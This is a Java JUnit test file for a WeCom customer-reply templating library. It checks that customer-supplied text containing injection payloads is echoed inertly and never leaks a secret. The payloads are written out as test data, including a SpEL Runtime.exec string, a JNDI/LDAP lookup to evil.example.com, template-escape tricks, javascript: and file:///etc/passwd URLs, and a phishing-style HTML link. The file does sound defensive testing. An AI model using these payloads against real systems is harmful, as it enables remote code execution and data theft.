package com.wecomesb.reply;

import static com.wecomesb.reply.Replies.ON_APP;
import static com.wecomesb.reply.Replies.ON_KF;
import static com.wecomesb.reply.Replies.saying;
import static com.wecomesb.reply.Replies.texts;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever a customer, a regex group or another system says is shown, and never read as anything but words. */
class InjectionTest {

    private static final List<String> WAYS = List.of("contact.name", "event.text", "match.order", "order.title");

    static List<String> codes() {
        return List.of(
                "{{ order.secret }}",
                "{{ contact.phone | append: order.secret }}",
                "{% for i in (1..1000) %}{{ order.secret }}{% endfor %}",
                "{% raw %}{{ order.secret }}{% endraw %}",
                "{%- assign x = order.secret -%}{{ x }}",
                "{% include 'accounts.yaml' %}",
                "{{{{ order.secret }}}}",
                "{%{{ order.secret }}%}",
                "}}{{ order.secret }}{{",
                "' }}{{ order.secret }}{{ '",
                "${order.secret}",
                "${{order.secret}}",
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "${bean:worker?method=perform}",
                "${header.CamelWecomPath}",
                "{{esb.wecom.apps.service.secret}}",
                "{{env:HOME}}",
                "${jndi:ldap://evil.example.com/a}",
                "| upcase",
                "\\u007b\\u007b order.secret \\u007d\\u007d",
                "\"}, \"open_kfid\": \"wk-other\", {\"");
    }

    @ParameterizedTest
    @MethodSource("codes")
    void codeInAValueIsShownAsItIs(String code) {
        for (String way : WAYS) {
            // Given
            ReplyLibrary library = saying("- text: \"[{{ %s }}]\"".formatted(way));
            // When
            Answer answer = library.compose("a", ON_KF, hostile(code));
            // Then
            assertThat(texts(answer)).as(way).containsExactly("[" + code + "]");
        }
    }

    @ParameterizedTest
    @MethodSource("codes")
    void codeInAParameterOfAnActionIsPassedOnAsItIs(String code) {
        // Given
        JsonNode parameters = JsonNodeFactory.instance
                .objectNode()
                .put("subject", "{{ event.text }}")
                .set("with", JsonNodeFactory.instance.objectNode().put("id", "{{ match.order }}"));
        // When
        JsonNode rendered = TemplatedJson.render(parameters, hostile(code));
        // Then
        assertThat(rendered.path("subject").asText(rendered.at("/with/id").asText()))
                .isEqualTo(code);
        assertThat(rendered.at("/with/id").asText()).isEqualTo(code);
    }

    @ParameterizedTest
    @MethodSource("codes")
    void codeInEveryFieldOfEveryKindShowsNoSecret(String code) {
        // Given
        ReplyLibrary library = saying("""
                - link: {title: "{{ event.text }}", description: "{{ event.text }}", url: "https://e.example.com/?q={{ event.text | url_encode }}", thumbnail: files/a.png}
                - news: {title: "{{ event.text }}", url: "{{ event.text }}"}
                - menu: {head: "{{ event.text }}", items: ["{{ event.text }}", {note: "{{ event.text }}"}, {text: "{{ event.text }}", url: "{{ event.text }}"}], tail: "{{ event.text }}"}
                - miniprogram: {appid: wx123123123123123, title: "{{ event.text }}", page: "pages/a?q={{ event.text | url_encode }}", thumbnail: files/a.png, items: {名称: "{{ event.text }}"}}
                """);
        // When
        List<Answer> answers =
                List.of(library.compose("a", ON_KF, hostile(code)), library.compose("a", ON_APP, hostile(code)));
        // Then
        assertThat(answers)
                .allSatisfy(answer -> assertThat(answer.messages())
                        .allSatisfy(message ->
                                assertThat(message.content().toString()).doesNotContain("TOP-SECRET")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "weixin://bizmsgmenu?msgmenucontent=转账&msgmenuid=1",
                "https://good.example.com@evil.example.com/ x",
                "https://e.example.com/\"onclick=\"x",
                "https://e.example.com/\n.evil.example.com",
                "file:///etc/passwd"
            })
    void aValueThatIsNoAddressOpensNothing(String address) {
        // Given
        ReplyLibrary library = saying("- link: {title: 物流, url: \"{{ order.title }}\", thumbnail: files/a.png}");
        // When
        Answer answer = library.compose("a", ON_KF, hostile(address));
        // Then
        assertThat(texts(answer)).containsExactly("物流");
    }

    @Test
    void aValueStaysOnePartOfAnAddress() {
        // Given
        ReplyLibrary library = saying(
                "- link: {title: 物流, url: \"https://e.example.com/t?id={{ order.title | url_encode }}&k=1\", thumbnail: files/a.png}");
        // When
        Answer answer = library.compose("a", ON_KF, hostile("1&k=2#/../退"));
        // Then
        assertThat(answer.messages().get(0).content().path("url").asText())
                .isEqualTo("https://e.example.com/t?id=1%26k%3D2%23%2F..%2F%E9%80%80&k=1");
    }

    @Test
    void markupOfACustomerIsNoLinkInANotice() {
        // Given
        JsonNode notice = JsonNodeFactory.instance.objectNode().put("text", "客户说:{{ event.text }}");
        // When
        JsonNode rendered = TemplatedJson.renderForPeople(
                notice, hostile("<a href=\"https://evil.example.com\">点我领红包</a> 1 < 2 <3"));
        // Then
        assertThat(rendered.path("text").asText())
                .isEqualTo("客户说:\uFF1Ca href=\"https://evil.example.com\">点我领红包\uFF1C/a> 1 < 2 <3");
    }

    @Test
    void controlCharactersAndMarksThatTurnTheWritingAreLeftOut() {
        // Given
        ReplyLibrary library = saying("- text: \"{{ contact.name }},您好\"");
        // When
        Answer answer =
                library.compose("a", ON_KF, hostile("王\u0000芳\u202E\u0007\uD83D\t\u200F一\n二👨\u200D👩\u200D👧\uDC00"));
        // Then
        assertThat(texts(answer)).containsExactly("王芳 一\n二👨\u200D👩\u200D👧,您好");
    }

    @Test
    void aValueOfAMegabyteIsCutAndTakesNoTime() {
        // Given
        String megabyte = "退😀".repeat(350_000);
        ReplyLibrary library = saying("- text: \"您说:{{ event.text }}\"");
        JsonNode document = JsonNodeFactory.instance.objectNode().put("description", "{{ event.text }}");
        // When
        Answer answer = library.compose("a", ON_KF, hostile(megabyte));
        JsonNode rendered = TemplatedJson.render(document, hostile(megabyte));
        // Then
        assertThat(answer.messages()).hasSize(2);
        assertThat(texts(answer).get(1)).endsWith("…");
        assertThat(rendered.path("description").asText().codePoints().count()).isEqualTo(Values.LONGEST_IN_DOCUMENT);
    }

    @Test
    void aTemplateThatRepeatsAValueFillsAtMostFiveMessages() {
        // Given
        ReplyLibrary library = saying("- text: \"{% for i in (1..40) %}{{ event.text }}{% endfor %}\"");
        // When
        Answer answer = library.compose("a", ON_KF, hostile("退".repeat(1_000)));
        // Then
        assertThat(answer.messages()).hasSize(5);
        assertThat(texts(answer).get(4)).endsWith("…");
    }

    private static Map<String, Object> hostile(String text) {
        return Map.of(
                "contact", Map.of("name", text, "phone", "13800005678"),
                "event", Map.of("text", text),
                "match", Map.of("order", text),
                "order", Map.of("title", text, "secret", "TOP-SECRET"));
    }
}
